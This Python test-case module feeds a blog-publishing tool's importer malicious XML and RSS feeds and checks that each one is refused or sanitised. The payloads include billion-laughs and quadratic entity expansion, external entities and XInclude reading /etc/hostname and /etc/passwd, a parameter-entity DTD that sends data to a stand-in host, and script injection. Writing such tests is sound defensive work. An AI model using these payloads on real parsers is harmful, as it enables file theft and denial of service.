"""XML that attacks: exports and feeds whose DTD, entities, sections or ends are made to do harm."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

from archives import PROSE
from case import Case
from feed_samples import SPACES, atom
from later import Later
from wxr_samples import export, item, picture

from publish.errors import Exit

HEAD = '<?xml version="1.0" encoding="utf-8"?>'
KEPT = ("The first of the kept words.", "The last of the kept words.")
LAUGH = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
SECRET = "Words that nobody may read."


def feed(words: str = "", head: str = HEAD, root: str = "", doctype: str = "") -> bytes:
    """A feed of one post, words between the first and the last of it."""
    return feed_of(said(words), head, root, doctype)


def said(words: str, title: str = "Low Water") -> str:
    """The item whose words these are."""
    body = f"<p>{KEPT[0]} {PROSE}</p>{words}<p>{PROSE} {KEPT[1]}</p>"
    return f"<item><title>{title}</title><content:encoded>{escaped(body)}</content:encoded></item>"


def escaped(body: str) -> str:
    """Markup as the text of an element."""
    return body.replace("&", "&amp;").replace("<", "&lt;")


def feed_of(items: str, head: str = HEAD, root: str = "", doctype: str = "") -> bytes:
    """A feed around items that a case writes."""
    return (
        f'{head}{doctype}<rss version="2.0" {SPACES} {root}><channel><title>Quay Notes</title>'
        f"<link>https://quay.example/</link>{items}</channel></rss>"
    ).encode()


def xml(name: str, story: str, data: bytes, keeps: tuple[str, ...] = KEPT, **more: Any) -> Case:
    """A case of one export or feed."""
    given = {"keeps": keeps, "media": ("epub",), **more}
    return Case("xml", name, story, {"export.xml": data}, "export.xml", **given)


def refused(name: str, story: str, data: bytes) -> Case:
    """A feed that is not read."""
    return xml(name, story, data, (), refused=Exit.INPUT)


def declared(entities: str, used: str) -> bytes:
    """A feed that declares entities, and uses them."""
    return feed_of(f"<item><title>{used}</title></item>", doctype=f"<!DOCTYPE rss [{entities}]>")


def entities() -> Iterator[Case]:
    """Entities that multiply, or name files and addresses."""
    yield refused(
        "billion laughs", "Ten entities of ten entities, nine deep.",
        declared(f'<!ENTITY l0 "ha">{LAUGH}', "&l9;"),
    )  # fmt: skip
    yield refused(
        "quadratic blow-up", "One entity of 100 kB, used 10,000 times.",
        declared(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 10_000),
    )  # fmt: skip
    yield refused(
        "parameter entities", "A parameter entity fetches a DTD that sends a file away.",
        declared('<!ENTITY % f SYSTEM "{CANARY}"><!ENTITY % d SYSTEM "{TRAP}/x.dtd">%d;%s;', "x"),
    )  # fmt: skip
    for scheme in ("file:///etc/hostname", "{TRAP}/x", "ftp://evil.example/x", "jar:{TRAP}/x!/a"):
        yield refused(
            f"external entity by {scheme.partition(':')[0].strip('{}').lower()}",
            "An entity that names what stands elsewhere.",
            declared(f'<!ENTITY x SYSTEM "{scheme}">', "&x;"),
        )
    yield refused(
        "DTD outside that declares", "A DTD that is fetched, and one inside that overrides it.",
        feed("&x;", doctype='<!DOCTYPE rss SYSTEM "{TRAP}/rss.dtd" [<!ATTLIST item x CDATA "y">]>'),
    )  # fmt: skip
    yield refused(
        "DTD behind a page of comments", "What is refused stands where nobody looks for it.",
        feed("&x;", doctype=f"<!--{'-'.join('x' * 60_000)}--><!DOCTYPE rss [<!ENTITY x 'y'>]>"),
    )  # fmt: skip
    netscape = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    yield xml("the DTD of old feeds", "RSS 0.91 names a DTD that nobody needs: it is read.",
              feed(doctype=netscape))  # fmt: skip
    xhtml = (
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">'
        '<!ENTITY y "yyy">]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Low Water'
        f"</title></head><body><p>{KEPT[0]} {PROSE}</p><p>&x; &y;</p><p>{PROSE} {KEPT[1]}</p>"
        "</body></html>"
    )
    yield Case("xml", "a page with entities of its own", "An XHTML page that declares a file.",
               {"page.xhtml": xhtml.encode()}, "page.xhtml", keeps=KEPT)  # fmt: skip


def elsewhere() -> Iterator[Case]:
    """Instructions that send a parser elsewhere."""
    yield xml("XInclude", "Elements of XInclude name a file as text and as XML.", feed_of(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"'
        f' parse="text"/><xi:include href="{{TRAP}}/x"/>{said("")}'))  # fmt: skip
    yield xml("processing instructions", "A sheet, a transformation and PHP between elements.",
              feed_of(f'<?php echo file_get_contents("x") ?>{said("")}<?xml-stylesheet href="{{TRAP}}"?>',
                      head=f'{HEAD}<?xml-stylesheet type="text/xsl" href="{{TRAP}}/x.xsl"?>'))  # fmt: skip
    yield xml("xml:base", "Everything relative is said to stand on this machine's disk.", atom(
        '<title>Low Water</title><content type="xhtml" xml:base="file:///etc/"><div xmlns='
        f'"http://www.w3.org/1999/xhtml"><p>{KEPT[0]} {PROSE}</p><p><a href="passwd">a</a>'
        f'<img src="passwd" alt="x"/></p><p>{PROSE} {KEPT[1]}</p></div></content>',
        attributes='xml:base="file:///"'), never=("etc/passwd",))  # fmt: skip


def names() -> Iterator[Case]:
    """Namespaces, too many and of others."""
    many = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(5_000))
    yield xml("namespaces by the thousand", "The root declares 5,000 of them.", feed(root=many))
    each = "".join(f'<n:a xmlns:n="urn:{n}" n:b="c"/>' for n in range(20_000))
    yield xml(
        "a namespace an element", "20,000 elements, each of its own.", feed_of(each + said(""))
    )
    yield xml("a namespace that is none", "The bodies are in a namespace that nobody knows.",
              feed().replace(b"http://purl.org/rss/1.0/modules/content/", b"urn:evil"))  # fmt: skip
    yield xml("prefixes that nothing declares", "An editor has cut the declarations off.",
              feed().replace(SPACES.encode(), b""))  # fmt: skip
    yield xml("the root says it twice", "An attribute and a namespace stand there again.",
              feed(root='version="2.0" xmlns:content="urn:x"'))  # fmt: skip
    yield xml("two bodies", "A post has its body twice, in different words.", feed_of(
        said("") + said("<p>And of this one, too.</p>", "Next Water")), (*KEPT, "And of this one, too."))  # fmt: skip


def sections() -> Iterator[Case]:
    """CDATA sections that end too early, too late or never."""
    body = f"<p>{KEPT[0]} {PROSE}</p>{{}}<p>{PROSE} {KEPT[1]}</p>"
    for name, story, inside in (
        ("a section that is split", "As WordPress writes what ends a section.",
         "<p>It says ]]]]><![CDATA[> here.</p>"),
        ("a section that ends too early", "What ends a section stands bare in the words.",
         "<p>It says ]]> here.</p>"),
        ("a section in a section", "A section is opened again before it has ended.",
         "<p>It says <![CDATA[ here.</p>"),
        ("an element that closes in a section", "The words have the tag that would end them.",
         "<p>It says <code>&lt;/content:encoded&gt;</code> here.</p>"),
    ):  # fmt: skip
        whole = f"<![CDATA[{body.format(inside)}]]>"
        entry = f"<item><title>Low Water</title><content:encoded>{whole}</content:encoded></item>"
        yield xml(name, story, feed_of(entry), (KEPT[0], "It says", KEPT[1]))


def broken() -> Iterator[Case]:
    """Feeds that are cut off or go on, and those that real blogs have."""
    whole = feed_of(said("") + said("<p>Cut off in the midst of</p>", "Next Water"))
    at = whole.rindex(b"of&lt;/p")
    for name, cut in (
        ("words", whole[: at - 3]), ("a tag", whole[: whole.rindex(b"coded>") - 4]),
        ("a reference", whole[: at + 4]), ("a letter", whole[: at] + b"\xe2\x80"),
    ):  # fmt: skip
        yield xml(f"cut off in {name}", "A download that has ended too early.", cut,
                  (*KEPT, "Cut off in the mid"))  # fmt: skip
    yield refused("cut off in its first tag", "There is no more than a start.", whole[:40])
    second = feed_of(said("<p>Of the second feed.</p>", "Next Water"))
    yield xml("two roots", "Two feeds stand in one file.",
              feed() + second[len(HEAD) :],
              (*KEPT, "Of the second feed."))  # fmt: skip
    yield xml("two files in one", "Two feeds with their declarations.",
              feed() + second, (*KEPT, "Of the second feed."))  # fmt: skip
    bare = "<p>Salt &nbsp;&amp; Sons &mdash; R&D, AT&T; 1 < 2 &bogus; &#0;&#xFFFF;&hellip;</p>"
    entry = f"<item><title>Salt & Sons&nbsp;</title><description>{KEPT[0]} {PROSE} {bare} {KEPT[1]}"
    yield xml("entities that nothing declares", "HTML's entities and bare ampersands.",
              feed_of(f"{entry}</description></item>"),
              (KEPT[0], "Salt", "& Sons — R&D, AT&T; 1 < 2 &bogus;", "…", KEPT[1]))  # fmt: skip
    yield xml("NULs", "Between the letters stand zeros and controls.",
              feed("<p>Wo\0rds\x1b[31m of\x08 them.</p>"), (KEPT[0], "Words[31m of them.", KEPT[1]))  # fmt: skip
    yield xml("words before it", "A server's warnings stand before the declaration.",
              b"<br />\n<b>Warning</b>: in /srv/www/x.php on line 7<br />\n\n" + feed())  # fmt: skip


def coded() -> Iterator[Case]:
    """Declarations of an encoding that is not so."""
    for label, codec in (
        ("utf-16", "utf-8"), ("UTF-7", "utf-8"), ("klingon", "utf-8"), ("utf-8", "cp1252"),
        ("us-ascii", "utf-8"), ("ebcdic-cp-us", "utf-8"), ("utf-8", "utf-16"), ("x", "utf-16-be"),
        ("utf-16", "utf-16-le"), ("iso-8859-1", "utf-8-sig"), ("windows-1251", "cp1251"),
    ):  # fmt: skip
        word = "Её слово." if codec == "cp1251" else "Café crème."
        text = feed(f"<p>{word}</p>", HEAD.replace("utf-8", label)).decode()
        yield xml(f"says {label}, is {codec}", "A declaration, and what the bytes are.",
                  text.encode(codec), (KEPT[0], word, KEPT[1]))  # fmt: skip
    yield xml("XML 1.1", "A version that libxml2 does not read.",
              feed(head='<?xml version="1.1" standalone="no"?>'))  # fmt: skip


def made(items: Callable[[], str]) -> bytes:
    """A feed around items that are written when it is asked for."""
    return feed_of(items())


def large() -> Iterator[Case]:
    """Deep, wide and long."""
    deep = "<x>" * 1_500 + "</x>" * 1_500
    yield xml("nested 1,500 times", "Beside the post stand elements in elements.",
              feed_of(deep + said("")))  # fmt: skip
    div = "<div xmlns='http://www.w3.org/1999/xhtml'>"
    yield xml("a body nested 5,000 times", "An Atom body of elements in elements.", atom(
        f'<title>Low</title><content type="xhtml">{div * 5_000}<p>{KEPT[0]} {PROSE}</p>'
        f"<p>{PROSE} {KEPT[1]}</p>{'</div>' * 5_000}</content>"))  # fmt: skip
    for name, story, make in (
        ("nested 100,000 times", "No parser nests as deep.",
         lambda: "<x>" * 100_000 + "</x>" * 100_000 + said("")),
        ("a huge attribute", "An attribute of 4 MB, beside the post.",
         lambda: f'<x y="{"z" * 4_000_000}"/>{said("")}'),
        ("a huge comment", "A comment of 4 MB, and one of dashes.",
         lambda: f"<!--{'z' * 4_000_000}-->{said('')}<!--{'- ' * 90_000}-->"),
        ("a huge text", "A text of 12 MB in a field that nobody reads.",
         lambda: f"<x>{'z ' * 6_000_000}</x>{said('')}"),
    ):  # fmt: skip
        files = Later(export_xml=partial(made, make))
        yield Case("xml", name, story, files, "export.xml", keeps=KEPT, large=True)


def closed() -> Iterator[Case]:
    """What is not for all to read."""
    secret = f"<p>{SECRET} {PROSE}</p>"
    hidden = [
        item(n, f"Secret {n}", secret, status=status, kind=kind)
        for n, (status, kind) in enumerate([
            ("draft", "post"), ("private", "post"), ("trash", "post"), ("pending", "post"),
            ("auto-draft", "post"), ("inherit", "revision"), ("publish", "nav_menu_item"),
            ("publish", "custom_css"), ("publish", "wpcf7_contact_form"), ("Draft ", "post"),
        ], 1)
    ]  # fmt: skip
    locked = item(40, "Secret 40", secret, password="hush")
    shown = item(50, "Low Water", f"<p>{KEPT[0]} {PROSE}</p><p>{PROSE} {KEPT[1]}</p>")
    yield xml("drafts and secrets", "Nothing but what was published is read.",
              export([*hidden[:5], locked, shown, *hidden[5:], picture(8001, caption=SECRET)]),
              never=("nobody may", "Secret"))  # fmt: skip
    yield refused("nothing but secrets", "Of an export nothing was published.",
                  export([*hidden[:5], locked]))  # fmt: skip
    yield xml("a draft of Atom", "Atom's publishing protocol marks a draft.", atom(
        f"<title>Secret</title><app:control xmlns:app='http://www.w3.org/2007/app'><app:draft>yes"
        f"</app:draft></app:control><content>{SECRET}</content>",
        f'<title>Low</title><content type="text">{KEPT[0]} {PROSE} {KEPT[1]}</content>'),
        never=("nobody may",))  # fmt: skip


def others() -> Iterator[Case]:
    """XML that is no feed, and pages that are called XML."""
    yield refused(
        "OPML", "A list of feeds holds no post.",
        b'<?xml version="1.0"?><opml version="2.0"><head><title>Feeds</title></head><body><outline'
        b' text="Quay" xmlUrl="file:///etc/hostname"/></body></opml>',
    )  # fmt: skip
    yield refused("no feed at all", "Some program's settings.",
                  b'<?xml version="1.0"?><settings><window width="3"/></settings>')  # fmt: skip
    script = "<script>alert(1)</script><iframe src='{TRAP}'></iframe><p onclick='x()'>Clicked.</p>"
    yield xml("a body that acts", "A feed's body has scripts and frames.", feed(script),
              (KEPT[0], "Clicked.", KEPT[1]), never=("alert",))  # fmt: skip
    yield xml("RSS of RDF", "Its items stand beside the channel.", (
        f'{HEAD}<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" {SPACES} xmlns='
        f'"http://purl.org/rss/1.0/"><channel rdf:about="x"><title>Quay</title></channel>{said("")}'
        "</rdf:RDF>").encode())  # fmt: skip


CASES = (
    *entities(), *elsewhere(), *names(), *sections(), *broken(), *coded(), *large(), *closed(),
    *others(),
)  # fmt: skip
